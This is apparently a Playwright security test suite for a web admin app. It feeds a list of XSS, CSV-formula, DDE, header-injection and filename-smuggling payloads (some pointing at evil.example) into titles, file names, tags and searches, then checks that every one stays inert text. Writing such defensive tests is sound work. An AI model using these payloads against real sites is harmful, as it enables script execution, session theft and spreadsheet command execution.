// Texts that try to become markup, scripts, formulas or headers, wherever a text
// can come from: as a title, SKU, file name, address, Name tag, search, token's
// name and a service's answer; on every page, in a notification and a file.
import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "@playwright/test";
import { EMAIL, PASSWORD, type Server, csv, expect, signIn, test } from "../fixtures.ts";

/** Each script calls `hostile`, each foreign address is of this host. */
const ELSEWHERE = "evil.example";

const TEXTS = [
  `</title><script src=data:text/javascript,hostile(1) x="`,
  `</title><script src=//${ELSEWHERE}/1.js x="`,
  `</title><script>hostile(2)</script>`,
  `</title><script src=data:text/javascript,hostile(3) x='`,
  `<img src=x onerror=hostile(4)>`,
  `"><svg onload=hostile(5)>`,
  `" autofocus onfocus=hostile(6) x="`,
  `' autofocus onfocus=hostile(7) x='`,
  `</script><script>hostile(8)</script>`,
  `\\u003c/script>\\u003cscript>hostile(9)\\u003c/script>`,
  `\\</script><script>hostile(10)//`,
  `<!--<script>`,
  `--><script>hostile(11)</script><!--`,
  `]]><script>hostile(12)</script>`,
  `javascript:hostile(13)`,
  `{{constructor.constructor('hostile(14)')()}}`,
  "`${hostile(15)}`",
  `"};hostile(16);//`,
  `';hostile(17);'`,
  `<meta http-equiv=refresh content="0;url=http://${ELSEWHERE}/">`,
  `</title></head><body><base href=http://${ELSEWHERE}/>`,
  `</textarea></style></noscript><iframe srcdoc="<script>parent.hostile(18)</script>">`,
  `<form action=http://${ELSEWHERE}/><button autofocus>Launch</button>`,
  `<a href=javascript:hostile(19) id=main name=trustedTypes>Jobs</a>`,
  `<link rel=stylesheet href=http://${ELSEWHERE}/x.css>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=hostile(20)>`,
  `<xss-probe style=position:fixed;inset:0 onpointerover=hostile(21)>`,
  `&lt;script&gt;hostile(22)&lt;/script&gt;`,
  `%3Cscript%3Ehostile(23)%3C/script%3E`,
  `%0d%0aSet-Cookie:hostile=1`,
  `a"; filename="b.html`,
  `=HYPERLINK("http://${ELSEWHERE}/","x")`,
  `+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(1+1)`,
  `\u202e\u2066<b>\u2028hostile(24)\u2069`,
];

/** Without what no address may hold. */
const ADDRESSES = [`<img/src=x/onerror=hostile(30)>@${ELSEWHERE}`, `"'/><script>hostile(31)</script>@${ELSEWHERE}`];

const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");

const instance = (n: number) => `i-0a1b2c3d4e5f6${String(n).padStart(4, "0")}`;

/** Channels and an EC2 account whose every answer has one of the texts. */
async function outside(): Promise<HttpServer> {
  let answers = 0;
  const machine = (name: string, n: number) =>
    `<item><instancesSet><item><instanceId>${instance(n)}</instanceId>` +
    `<instanceState><code>80</code><name>stopped</name></instanceState><instanceType>${escaped(name)}</instanceType>` +
    `<placement><availabilityZone>${escaped(name)}</availabilityZone></placement><tagSet><item><key>Name</key>` +
    `<value>${escaped(name)}</value></item></tagSet></item></instancesSet></item>`;
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (bytes) => (body += bytes));
    request.on("end", () => {
      const text = TEXTS[answers++ % TEXTS.length]!;
      if (body.includes("DescribeInstances")) {
        const machines = TEXTS.map(machine).join("");
        response.end(`<DescribeInstancesResponse><reservationSet>${machines}</reservationSet></DescribeInstancesResponse>`);
      } else if (request.url!.startsWith("/channels/")) {
        if (request.method === "GET") return response.end(`{"items":[]}`);
        const stored = /xss-probe|javascript:|&lt;/.test(body);
        response.statusCode = stored ? 201 : 422;
        response.end(JSON.stringify(stored ? { id: text } : { error: text, reason: text }));
      } else {
        const error = `<Error><Code>UnauthorizedOperation</Code><Message>${escaped(text)}</Message></Error>`;
        response.statusCode = 403;
        response.end(`<Response><Errors>${error}</Errors></Response>`);
      }
    });
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  return server;
}

/** What the texts did in a browser, in words. */
class Findings {
  readonly words: string[] = [];
  /** Addresses that the test itself leads to. */
  private expected = new Set<string>(["about:blank"]);

  constructor(private server: Server) {}

  async watch(context: BrowserContext) {
    await context.exposeBinding("hostile", (_, n) => void this.words.push(`script ${n} ran`));
    await context.route("**", (route) => {
      const url = new URL(route.request().url());
      if (url.origin === this.server.url) return route.continue();
      this.words.push(`asked for ${url}`);
      return route.abort();
    });
    context.on("page", (page) => this.page(page));
    context.on("weberror", (error) => this.words.push(`error ${error.error()}`));
  }

  private page(page: Page) {
    page.on("dialog", (dialog) => {
      this.words.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("framenavigated", (frame) => {
      const { pathname, search, origin } = new URL(frame.url());
      const known = origin === this.server.url && this.expected.has(pathname + search);
      if (frame.parentFrame() || (!known && frame.url() !== "about:blank")) this.words.push(`went to ${frame.url()}`);
    });
    page.on("console", (message) => {
      // The status of a page that there is not.
      if (message.type() !== "error" || /status of (404|422)/.test(message.text())) return;
      this.words.push(`at ${page.url()}: ${message.text()}`);
    });
  }

  expect(path: string) {
    const { pathname, search } = new URL(path, this.server.url);
    this.expected.add(pathname + search);
  }

  /** Opens a page and looks whether it is whole, and has nothing that is none of ours. */
  async open(page: Page, path: string, whole = true) {
    this.expect(path);
    await page.goto(`${this.server.url}${path}`);
    await this.look(page, whole);
  }

  async look(page: Page, whole = true) {
    if (whole) await expect(page.getByTestId("connection"), `hydrated at ${page.url()}`).toHaveText("live");
    const found = await page.evaluate(() => {
      const all = [...document.querySelectorAll("*")];
      const handlers = all.filter((it) => [...it.attributes].some(({ name }) => name.startsWith("on")));
      const foreign = all.filter((it) =>
        /^(iframe|object|embed|base|img|math|xss-probe|mglyph|area|frame)$/i.test(it.localName),
      );
      const scripts = [...document.scripts].filter((it) => !it.nonce || it.src);
      const nonces = all.filter((it) => it.localName !== "script" && (it as HTMLElement).nonce);
      const links = all.filter((it) => /^\s*javascript:/i.test(it.getAttribute("href") ?? it.getAttribute("action") ?? ""));
      const refresh = [...document.querySelectorAll("meta[http-equiv], form[action*='//'], [style]")];
      const count = (selector: string) => document.querySelectorAll(selector).length;
      const html = [...handlers, ...foreign, ...scripts, ...nonces, ...links, ...refresh].map((it) => it.outerHTML.slice(0, 200));
      return { html, titles: count("head > title"), mains: count("main"), bodies: count("body"), heads: count("h1") };
    });
    for (const html of found.html) this.words.push(`${page.url()} has ${html}`);
    const { titles, mains, bodies, heads } = found;
    if (titles !== 1 || mains !== 1 || bodies !== 1 || heads < 1) {
      this.words.push(`${page.url()} is broken: ${JSON.stringify({ titles, mains, bodies, heads })}`);
    }
  }
}

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** A cell of a CSV file each, quotes undone. */
function cells(file: string): string[] {
  const found = [];
  for (const [, quoted, plain] of file.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,"\r\n]*))/g)) {
    found.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
  }
  return found;
}

/** Launches as whoever is signed in; nothing where the text is refused. */
async function launch(page: Page, server: Server, file: string, content: string): Promise<string | undefined> {
  const answer = await page.request.post(`${server.url}/api/v1/jobs/product-uploads`, {
    params: { channels: "acme", file },
    headers: { origin: server.url, "content-type": "text/csv" },
    data: content,
  });
  if (answer.status() === 422) return undefined;
  expect(answer.status(), await answer.text()).toBe(202);
  return (await answer.json()).job.id;
}

/** Products that are called so; a SKU has at most 64 characters. */
const rows = (texts: string[]) => {
  const row = (text: string) => `${quoted(text.slice(0, 60))},${quoted(text)},1.00,${quoted(text)},${quoted(text)}`;
  return ["sku,title,price,description,vendor", ...texts.map(row)].join("\r\n");
};

interface World {
  findings: Findings;
  context: BrowserContext;
  /** Of an admin who is signed in. */
  page: Page;
}

const hostile = test.extend<{ services: HttpServer; world: World }>({
  services: async ({}, use) => {
    const services = await outside();
    await use(services);
    services.closeAllConnections();
    services.close();
  },
  settings: async ({ services }, use) =>
    use({
      MEANWHILE_ADMIN_EMAIL: EMAIL,
      MEANWHILE_ADMIN_PASSWORD: PASSWORD,
      MEANWHILE_SANDBOX_URL: `http://127.0.0.1:${(services.address() as AddressInfo).port}`,
    }),
  world: async ({ server, browser }, use) => {
    test.setTimeout(300_000);
    const findings = new Findings(server);
    const context = await browser.newContext({ permissions: ["notifications"] });
    await findings.watch(context);
    const page = await context.newPage();
    for (const path of ["/", "/sign-in"]) findings.expect(path);
    await signIn(page, server);
    await findings.look(page);
    await use({ findings, context, page });
    expect(findings.words, "what the texts did").toEqual([]);
    await context.close();
  },
});

/** Launches one job for each text, named after it; those that are refused are left out. */
async function launchAll(page: Page, server: Server): Promise<Map<string, string>> {
  const jobs = new Map<string, string>();
  for (const text of TEXTS) {
    const job = await launch(page, server, text, rows([text]));
    if (job) jobs.set(text, job);
  }
  expect(jobs.size, "most texts are taken as names of files").toBeGreaterThan(TEXTS.length - 5);
  return jobs;
}

/** A text as a title shows it. */
const shown = (text: string) => text.replaceAll(/[\u2028\s]+/g, " ").trim();

hostile("texts stay texts as titles of jobs: in pages, toasts, notices and headers", async ({ server, world }) => {
  const { findings, context, page } = world;
  const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent("serviceworker"));
  await expect.poll(() => worker.evaluate("self.registration.active?.state")).toBe("activated");
  await worker.evaluate("Clients.prototype.matchAll = async () => []");
  const jobs = await launchAll(page, server);
  await expect(page.getByTestId("bell-count")).toHaveText(`${jobs.size}`, { timeout: 60_000 });
  await expect(page.getByTestId("toast")).toHaveCount(3);
  await findings.look(page);
  const notices = "self.registration.getNotifications().then((all) => all.map((it) => it.title))";
  await expect.poll(async () => ((await worker.evaluate(notices)) as string[]).length).toBeGreaterThan(0);
  for (const title of (await worker.evaluate(notices)) as string[]) {
    expect([...jobs.keys()].some((text) => title.includes(text)), title).toBe(true);
  }

  for (const path of ["/", "/jobs", "/inbox", "/jobs?q=%3Cscript"]) await findings.open(page, path);
  for (const [text, job] of jobs) {
    await findings.open(page, `/jobs/${job}`);
    expect(shown(await page.title()), "neither markup nor escaped twice").toBe(`(${jobs.size}) ${shown(text)}`);
    await expect(page.getByRole("heading", { level: 1 })).toContainText(text);
    const file = await page.request.get(`${server.url}/jobs/${job}/failed.csv`);
    expect(file.status()).toBe(200);
    const name = /^attachment; filename="[\w. -]+"; filename\*=UTF-8''[\w.%-]+$/;
    expect(file.headers()["content-disposition"]).toMatch(name);
    expect(file.headers()["set-cookie"]).toBeUndefined();
  }
  // The same where the browser renders the page.
  await findings.open(page, "/jobs");
  for (const [text, job] of [...jobs].slice(0, 6)) {
    findings.expect(`/jobs/${job}`);
    await page.locator(`a[href="/jobs/${job}"]`).first().click();
    await expect.poll(async () => shown(await page.title())).toBe(`(${jobs.size}) ${shown(text)}`);
    await findings.look(page);
    await page.goBack();
    await expect(page.getByRole("heading", { name: "Jobs", exact: true })).toBeVisible();
  }
});

hostile("texts stay texts in products, addresses, Name tags, names of tokens and answers", async ({ server, world }) => {
  const { findings, page } = world;
  const job = (await launch(page, server, "texts.csv", rows(TEXTS)))!;
  for (const email of ADDRESSES) {
    const invited = await page.request.post(`${server.url}/people`, {
      headers: { origin: server.url },
      form: { email, role: "user" },
      maxRedirects: 0,
    });
    expect(invited.status()).toBe(303);
  }
  for (const name of TEXTS.map((text) => text.slice(0, 80))) {
    const made = await page.request.post(`${server.url}/api/v1/tokens`, {
      headers: { origin: server.url },
      data: { name, password: PASSWORD },
    });
    expect(made.status()).toBe(201);
  }
  const state = async () => (await (await page.request.get(`${server.url}/api/v1/jobs/${job}`)).json()).state;
  await expect.poll(state, { timeout: 60_000 }).not.toBe("running");
  const started = await page.request.post(`${server.url}/api/v1/jobs/ec2-starts`, {
    headers: { origin: server.url },
    data: { instance_ids: TEXTS.slice(0, 12).map((_, n) => instance(n)) },
  });
  expect(started.status()).toBe(202);
  const machines = (await started.json()).job.id;

  const views = [job, machines].flatMap((id) => ["", "?view=timeline", "?view=flow"].map((view) => `/jobs/${id}${view}`));
  for (const path of ["/", "/machines", "/people", "/account", "/inbox", "/search?q=%3C", ...views]) {
    await findings.open(page, path);
  }
  await findings.open(page, "/machines");
  await expect(page.getByTestId("machine")).toHaveCount(TEXTS.length);
  const { items } = await (await page.request.get(`${server.url}/api/v1/jobs/${job}/tasks?limit=200`)).json();
  for (const { id } of items.slice(0, 6)) {
    await findings.open(page, `/jobs/${job}?task=${id}`);
    await expect(page.getByTestId("attempt").first()).toBeVisible();
  }

  const file = await (await page.request.get(`${server.url}/jobs/${job}/failed.csv`)).text();
  const found = cells(file);
  expect(found.length).toBeGreaterThan(TEXTS.length);
  expect(found.filter((cell) => /^[=+\-@\t\r\n]/.test(cell)), "cells that a spreadsheet would run").toEqual([]);
  expect(found.filter((cell) => cell.startsWith("'=")).length, "formulas are in it, disarmed").toBeGreaterThan(0);
});

hostile("texts stay texts in a search, an address and a problem's words", async ({ server, world }) => {
  const { findings, page } = world;
  for (const [n, text] of TEXTS.entries()) {
    await findings.open(page, `/search?q=${encodeURIComponent(text)}`);
    // The router of the pages undoes percent signs twice.
    if (!text.startsWith("%")) await expect(page.getByTestId("search-field")).toHaveValue(text);
    await findings.open(page, `/${encodeURIComponent(text)}`, false);
    if (n % 3) continue;
    const path = `/machines?problem=${encodeURIComponent(text)}`;
    findings.expect(path);
    // Words are shown where a page of ours led to them.
    await page.evaluate((path) => location.assign(path), path);
    await expect(page.getByTestId("problem")).toBeVisible();
    await findings.look(page);
  }
});

hostile("texts stay texts in a file that is only looked at", async ({ world }) => {
  const { findings, page } = world;
  for (const text of TEXTS) {
    const sku = text.slice(0, 60);
    const refused = [sku, text, text, text].map(quoted).join(",");
    const content = `sku,title,price,${quoted(text)}\r\n${refused}\r\n${quoted(`b${sku}`)},${quoted(text)},1,\r\n`;
    const name = `${text.replaceAll("/", "\u2215")}.csv`;
    await page.getByLabel(/CSV file/).setInputFiles(csv(content, name));
    await expect(page.getByTestId("understood")).toBeVisible();
    await findings.look(page);
  }
});

/** Scripts that have got the nonce, as from a tag behind them that an open attribute swallowed. */
const NONCED = [
  `<script src=data:text/javascript,hostile(40) nonce="NONCE"></script>`,
  `<script type=module src=data:text/javascript,hostile(41) x="</title><b" nonce="NONCE"></script>`,
  `<script src=http://${ELSEWHERE}/42.js nonce="NONCE"></script>`,
  `<script src=blob:http://${ELSEWHERE}/43 nonce="NONCE"></script>`,
];

// As if a text were not escaped somewhere: the policies have to hold by themselves.
hostile("what gets into a page as markup runs nothing all the same", async ({ server, browser }) => {
  test.setTimeout(300_000);
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, server);
  const ran: string[] = [];
  let injected = { text: "", before: "" };
  await page.exposeBinding("hostile", (_, n) => void ran.push(`${n}: ${injected.text} before ${injected.before}`));
  await page.route("**/inbox", async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    expect(html).toContain(injected.before);
    const nonce = /nonce="([^"]+)"/.exec(html)?.[1] ?? "no nonce";
    const text = injected.text.replace("NONCE", nonce);
    await route.fulfill({ response, body: html.replace(injected.before, () => text + injected.before) });
  });
  await page.route(`http://${ELSEWHERE}/**`, (route) =>
    route.fulfill({ contentType: "text/javascript", body: "hostile(42)" }),
  );
  const texts = TEXTS.filter((text) => text.includes("hostile(") && text.includes("<"));
  expect(texts.length).toBeGreaterThan(10);
  const own = [...new Set(texts.flatMap((text) => [text, text.replace("</title>", "")])), ...NONCED];
  for (const before of ["<title>", "<script nonce", "<main", "</body>"]) {
    for (const text of own) {
      injected = { text, before };
      await page.goto(`${server.url}/inbox`);
    }
  }
  expect(ran, "scripts that ran").toEqual([]);
  await context.close();
});
